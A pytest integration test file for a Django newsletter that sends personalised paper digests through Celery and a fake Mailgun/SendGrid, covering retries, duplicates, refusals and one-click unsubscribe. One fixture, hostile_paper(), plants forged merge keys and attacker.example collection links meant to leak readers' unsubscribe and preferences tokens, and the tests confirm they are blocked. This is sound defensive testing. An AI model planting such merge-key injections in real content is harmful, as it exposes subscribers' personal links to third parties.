"""Digests through a real Celery worker and Anymail's real Mailgun backend to a fake Mailgun
on loopback: what arrives, once, per recipient, through retries, refusals and time-outs."""

import re
import threading
import time
from collections import Counter

import pytest
from django.db import connection
from django.test import Client

from newsletter.models import Delivery
from newsletter.tasks.digests import dispatch_now, send_digest_chunk
from subscriptions import tokens
from subscriptions.models import ConsentEvent, Subscriber

from .helpers import make_subscriber, path_of
from .support.digest_runs import wait_settled
from .support.links import unsubscribe_url_of

pytestmark = pytest.mark.worker

S = Delivery.Status
TOPIC_SETS = [("agents",), ("agents", "code"), ("multimodal",), ("code",), ("agents", "multimodal", "code")]


def papers():
    return [
        dict(arxiv_id="2611.00001", title="Agents that plan", abstract="An agent paper.", authors=["Ada Lovelace", "Alan Turing"],
             upvotes=120, github_repo="https://github.com/example/agents", github_stars=310, topics={"agents": 9.0}),
        dict(arxiv_id="2611.00002", title="Code models at scale", ai_summary="A code model.", authors=["Grace Hopper"],
             upvotes=80, topics={"code": 8.0}),
        dict(arxiv_id="2611.00003", title="Seeing and reading", abstract="A vision-language model.", authors=["A", "B", "C", "D", "E"],
             upvotes=60, topics={"multimodal": 7.0, "agents": 3.0}),
        dict(arxiv_id="2611.00004", title="Tool use for coding agents", abstract="Agents write code.", authors=["Linus"],
             upvotes=40, topics={"agents": 6.0, "code": 6.0}),
    ]


def make_readers(topics, count, prefix="reader"):
    readers = []
    for i in range(count):
        chosen = [topics[slug] for slug in TOPIC_SETS[i % len(TOPIC_SETS)]]
        readers.append(make_subscriber(f"{prefix}{i}@example.org", topics=chosen))
    return readers


def test_each_recipient_gets_one_personal_digest_in_shared_batch_calls(mailgun_worker, topics, make_scrape):
    fake = mailgun_worker.fake
    make_scrape(papers())
    readers = make_readers(topics, 25)

    report = dispatch_now(ignore_hour=True)
    assert report.due == 25 and report.queued == 25 and report.chunks == 1
    wait_settled()

    received = fake.accepted
    assert Counter(m.to for m in received) == Counter(r.email for r in readers), mailgun_worker.output()[-3000:]
    # Readers with the same topics share one rendering and one call: 5 topic sets, 5 calls.
    assert len(fake.calls) == 5 and all(c.answer == 200 for c in fake.calls)

    by_email = {r.email: r for r in readers}
    for message in received:
        reader = by_email[message.to]
        # Their own one-click link, signed for them and nobody else.
        url = unsubscribe_url_of(message)
        owner, _ = tokens.read_token(path_of(url).split("/")[2], tokens.UNSUBSCRIBE)
        assert owner == reader
        assert message.headers["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
        assert message.headers["List-Id"] == "Trending Papers Digest <digest.testserver>"
        # Their preferences and unsubscribe links in both parts, and their topics.
        [prefs] = re.findall(r"http://testserver/preferences/[^\s\"<]+", message.text)
        assert tokens.read_token(path_of(prefs).split("/")[2], tokens.PREFERENCES)[0] == reader
        assert url in message.text and f'href="{url}"' in message.html
        assert f'href="{prefs}"' in message.html
        names = [t.name for t in reader.topics.order_by("display_order")]
        assert f"Your topics: {', '.join(names)}" in message.text
        assert "%recipient" not in message.html + message.text + message.subject
        assert "1 Example Street" in message.text and "1 Example Street" in message.html
        # Only papers of their topics, best first.
        slugs = set(reader.topics.values_list("slug", flat=True))
        expected = [p for p in papers() if slugs & set(p["topics"])]
        assert re.fullmatch(r"\d new in [A-Za-z0-9 ,+]+ · \d{1,2} [A-Z][a-z]{2}", message.subject) and len(message.subject) <= 70
        for paper in expected:
            assert f"https://huggingface.co/papers/{paper['arxiv_id']}" in message.html
            assert f"https://arxiv.org/abs/{paper['arxiv_id']}" in message.text
        for paper in papers():
            if paper not in expected:
                assert paper["arxiv_id"] not in message.text

    deliveries = Delivery.objects.all()
    assert {d.status for d in deliveries} == {S.SENT}
    ids_by_email = {m.to: m.message_id for m in received}
    for delivery in deliveries.select_related("subscriber"):
        assert delivery.provider_message_id == ids_by_email[delivery.subscriber.email]

    # The same day again: nothing more.
    again = dispatch_now(ignore_hour=True)
    assert again.due == 0 and again.queued == 0
    time.sleep(1)
    assert len(fake.accepted) == 25


def test_two_dispatchers_at_once_send_each_digest_once(mailgun_worker, topics, make_scrape):
    fake = mailgun_worker.fake
    make_scrape(papers())
    readers = make_readers(topics, 60)
    reports, errors = [], []
    barrier = threading.Barrier(2)

    def run():
        try:
            barrier.wait()
            reports.append(dispatch_now(ignore_hour=True))
        except Exception as exc:  # pragma: no cover - reported below
            errors.append(exc)
        finally:
            connection.close()

    threads = [threading.Thread(target=run) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    assert sum(r.queued for r in reports) == 60  # disjoint sets
    wait_settled()
    counts = Counter(m.to for m in fake.accepted)
    assert counts == Counter(r.email for r in readers)
    assert Delivery.objects.count() == 60


def test_a_retried_chunk_sends_nothing_more(mailgun_worker, topics, make_scrape):
    fake = mailgun_worker.fake
    make_scrape(papers())
    readers = make_readers(topics, 10)
    dispatch_now(ignore_hour=True)
    wait_settled()
    assert len(fake.accepted) == 10
    calls = len(fake.calls)

    # The same chunk delivered again (a broker redelivery) and the same rows queued again.
    ids = list(Delivery.objects.values_list("pk", flat=True))
    send_digest_chunk.apply_async(args=[ids])
    send_digest_chunk.apply_async(args=[ids[:3]])
    deadline = time.monotonic() + 20
    while mailgun_worker.output().count("event=digest.chunk ") < 3 and time.monotonic() < deadline:
        time.sleep(0.1)
    assert mailgun_worker.output().count("event=digest.chunk ") == 3
    assert len(fake.accepted) == 10 and len(fake.calls) == calls
    assert Counter(m.to for m in fake.accepted) == Counter(r.email for r in readers)


def test_429_and_500_are_retried_with_backoff_and_nothing_is_lost_or_doubled(mailgun_worker, topics, make_scrape):
    fake = mailgun_worker.fake
    make_scrape(papers())
    readers = make_readers(topics, 10, prefix="retry")
    fake.fail_next(("429", 2), ("500",))
    dispatch_now(ignore_hour=True)
    wait_settled()

    assert Counter(m.to for m in fake.accepted) == Counter(r.email for r in readers)
    answers = [c.answer for c in fake.calls]
    assert answers[:2] == [429, 500] and set(answers[2:]) == {200}
    # Retry-After: 2 was honoured before the next call.
    assert fake.calls[1].started - fake.calls[0].started >= 1.9
    assert "Retry in" in mailgun_worker.output()
    attempts = Counter(Delivery.objects.values_list("attempts", flat=True))
    assert sum(attempts.values()) == 10 and max(attempts) >= 2


def test_a_time_out_after_the_provider_accepted_duplicates_only_that_call(mailgun_worker, topics, make_scrape):
    fake = mailgun_worker.fake
    make_scrape(papers())
    readers = make_readers(topics, 10, prefix="slow")
    fake.fail_next(("timeout",))
    dispatch_now(ignore_hour=True)
    wait_settled()

    counts = Counter(m.to for m in fake.accepted)
    first_call = fake.calls[0]
    assert first_call.accepted and first_call.answer == 200
    # Nobody is missing; the only duplicates are the recipients of the call in flight when
    # the time-out hit (the documented window).
    assert set(counts) == {r.email for r in readers}
    doubled = {email for email, n in counts.items() if n > 1}
    assert doubled == set(first_call.recipients) and max(counts.values()) == 2
    assert Delivery.objects.filter(status=S.SENT).count() == 10


@pytest.mark.parametrize("named", [True, False])
def test_refused_recipients_fail_alone_and_the_rest_is_sent(mailgun_worker, topics, make_scrape, named):
    fake = mailgun_worker.fake
    fake.refuse = {"broken0@example.org"}
    fake.refuse_named = named
    make_scrape(papers())
    readers = make_readers(topics, 10, prefix="broken")
    dispatch_now(ignore_hour=True)
    wait_settled()

    counts = Counter(m.to for m in fake.accepted)
    assert counts == Counter(r.email for r in readers[1:])
    bad = Delivery.objects.get(subscriber=readers[0])
    assert bad.status == S.FAILED and "not a valid address" in bad.error
    assert Delivery.objects.filter(status=S.SENT).count() == 9
    readers[0].refresh_from_db()
    if named:
        # The provider named the address: suppressed at once, with the reason in the log.
        assert readers[0].status == Subscriber.Status.BOUNCED
        event = ConsentEvent.objects.get(subscriber=readers[0], kind=ConsentEvent.Kind.BOUNCE)
        assert event.details["reason"] == "refused by provider"
    else:
        # Unnamed: found by halving the call; counted like a soft bounce.
        assert readers[0].status == Subscriber.Status.ACTIVE and readers[0].soft_bounces == 1
    assert Subscriber.objects.filter(status=Subscriber.Status.ACTIVE).count() == (9 if named else 10)


def test_one_click_from_a_received_email_unsubscribes_that_person_only(mailgun_worker, topics, make_scrape):
    fake = mailgun_worker.fake
    make_scrape(papers())
    readers = make_readers(topics, 5, prefix="oneclick")
    dispatch_now(ignore_hour=True)
    wait_settled()
    message = next(m for m in fake.accepted if m.to == readers[2].email)

    # As Gmail does it: a POST with the RFC 8058 body, no cookies, no CSRF token.
    gmail = Client(enforce_csrf_checks=True)
    response = gmail.post(
        path_of(unsubscribe_url_of(message)),
        data="List-Unsubscribe=One-Click",
        content_type="application/x-www-form-urlencoded",
    )
    assert response.status_code == 200
    statuses = dict(Subscriber.objects.values_list("email", "status"))
    assert statuses.pop(readers[2].email) == Subscriber.Status.UNSUBSCRIBED
    assert set(statuses.values()) == {Subscriber.Status.ACTIVE}


def test_send_digests_command_can_hand_the_work_to_the_workers(mailgun_worker, topics, make_scrape):
    from io import StringIO

    from django.core.management import call_command

    fake = mailgun_worker.fake
    make_scrape(papers())
    readers = make_readers(topics, 12, prefix="cli")
    out = StringIO()
    call_command("send_digests", "--all", "--workers", "--timeout", "60", stdout=out)
    assert re.match(r"due=12 sent=12 skipped=0 failed=0 still_open=0 seconds=", out.getvalue())
    assert Counter(m.to for m in fake.accepted) == Counter(r.email for r in readers)


# --- merge-field forgery (issue 8, finding 1) ----------------------------------------------

def hostile_paper():
    """A paper as stored by an older parser (or by hand): merge keys of both providers, in
    any case, in its URLs and its text. Every reader's digest holds it (all topics)."""
    return dict(
        arxiv_id="2611.00009", upvotes=500, authors=["Eve %Recipient.Unsubscribe_Url%"],
        title="Agents %RECIPIENT.PREFERENCES_URL% {{unsubscribe_url}}",
        ai_summary="See -view_url- and %recipient.unsubscribe_url% and %recipient.h:List-Unsubscribe%",
        github_repo="https://attacker.example/collect?p=%recipient.preferences_url%&u=%RECIPIENT.UNSUBSCRIBE_URL%",
        project_page="https://attacker.example/p?v=%Recipient.view_url%",
        topics={"agents": 9.5, "code": 9.5, "multimodal": 9.5},
    )


@pytest.mark.parametrize("provider", ["mailgun", "sendgrid"])
def test_forged_merge_keys_in_scraped_fields_reach_no_reader(transactional_db, request, provider, topics, make_scrape):
    worker = request.getfixturevalue(f"{provider}_worker")  # (transactional_db first: the worker sees our rows)
    fake = worker.fake
    make_scrape([hostile_paper(), *papers()])
    readers = make_readers(topics, 5, prefix=f"forged-{provider}")
    dispatch_now(ignore_hour=True)
    wait_settled()

    # Everybody still gets their digest, in shared batch calls...
    assert Counter(m.to for m in fake.accepted) == Counter(r.email for r in readers), worker.output()[-3000:]
    assert len(fake.calls) == 5 and {c.answer for c in fake.calls} <= {200, 202}
    for message in fake.accepted:
        everything = "\n".join([message.subject, message.text, message.html, *message.headers.values()])
        # ... with no link to the attacker's host, whatever it was made of ...
        assert "attacker.example" not in everything
        # ... no personal link where the paper's text was ...
        assert "testserver" not in message.subject
        # ... and the paper's text shown as it was written (a zero-width space is invisible).
        visible = everything.replace("\u200b", "")
        assert "Agents %RECIPIENT.PREFERENCES_URL% {{unsubscribe_url}}" in message.text.replace("\u200b", "")
        assert "PREFERENCES_URL" not in message.subject  # subjects name topics, not titles
        for written in ("-view_url-", "%recipient.unsubscribe_url%", "%recipient.h:List-Unsubscribe%", "Eve %Recipient.Unsubscribe_Url%"):
            assert written in visible
    assert set(Delivery.objects.values_list("status", flat=True)) == {S.SENT}


def test_a_merge_key_the_templates_did_not_put_there_stops_the_batch_call(digest_workers, fake_mailgun, topics, make_scrape):
    """The last line of defence: whatever carried it in (here an operator's postal address),
    a merge key the templates did not insert stops the call before the provider sees it."""
    worker = digest_workers({
        "TEST_EMAIL_BACKEND": "anymail.backends.mailgun.EmailBackend", **fake_mailgun.env(),
        "SENDER_POSTAL_ADDRESS": "1 Example Street, %RECIPIENT.PREFERENCES_URL%", "ADMINS": "ops@example.org",
    })
    make_scrape(papers())
    readers = make_readers(topics, 10, prefix="guarded")
    dispatch_now(ignore_hour=True)
    wait_settled()

    digests = [m for m in fake_mailgun.accepted if m.to != "ops@example.org"]
    assert digests == [], [m.text[-300:] for m in digests]
    # Failed, not retried: the same content would be refused again. Not the readers' fault:
    # no soft bounce, nobody suppressed.
    assert Counter(Delivery.objects.values_list("status", flat=True)) == {S.FAILED: 10}
    assert all("merge key" in error for error in Delivery.objects.values_list("error", flat=True))
    assert set(Subscriber.objects.filter(pk__in=[r.pk for r in readers]).values_list("status", "soft_bounces")) == {
        (Subscriber.Status.ACTIVE, 0)
    }
    output = worker.output()
    assert output.count("event=digest.merge_keys_refused") == 5, output[-3000:]  # one per distinct digest
    assert "unexpected=%recipient.preferences_url%*2\n" in output  # the footer of both parts
    # The admins hear of it once (not once per digest or chunk), without a key a provider
    # would fill in.
    [alert] = [m for m in fake_mailgun.accepted if m.to == "ops@example.org"]
    assert "merge key" in alert.subject
    assert "%\u200brecipient.preferences_url%" in alert.text and "testserver/preferences" not in alert.text


def test_each_paper_shows_the_readers_topics_and_same_topics_share_a_call(mailgun_worker, topics, make_scrape):
    """Issue 10: a paper of "agents" and "code" shows "agents" alone (with why) to readers of
    "agents", both to readers of both; readers with the same topics share one call."""
    from newsletter.models import DigestContent, Paper, PaperTopicScore

    fake = mailgun_worker.fake
    make_scrape([dict(arxiv_id="2611.00005", title="Coding agents", abstract="Agents write code.", authors=["A"],
                      upvotes=10, topics={"agents": 9.0, "code": 6.0})])
    paper = Paper.objects.get(arxiv_id="2611.00005")
    PaperTopicScore.objects.filter(paper=paper, topic=topics["agents"]).update(matched=["tool use"], primary=True)
    PaperTopicScore.objects.filter(paper=paper, topic=topics["code"]).update(matched=["code generation"])
    agents_only = [make_subscriber(f"why-a{i}@example.org", topics=[topics["agents"]]) for i in range(3)]
    both = [make_subscriber(f"why-ab{i}@example.org", topics=[topics["agents"], topics["code"]]) for i in range(3)]

    dispatch_now(ignore_hour=True)
    wait_settled()
    assert len(fake.accepted) == 6, mailgun_worker.output()[-3000:]
    # Two topic sets: two calls, each to the readers of one set; one content (the same papers).
    assert len(fake.calls) == 2
    assert sorted(sorted(c.recipients) for c in fake.calls) == sorted(
        [sorted(r.email for r in agents_only), sorted(r.email for r in both)])
    assert DigestContent.objects.count() == 1
    agents, code = topics["agents"].name, topics["code"].name
    for message in fake.accepted:
        if message.to in {r.email for r in agents_only}:
            assert f"Why: {agents}: tool use\n" in message.text and code not in message.text
            assert "code generation" not in message.html
        else:
            assert f"Why: {agents}: tool use\nWhy: {code}: code generation\n" in message.text
            assert "tool use" in message.html and "code generation" in message.html
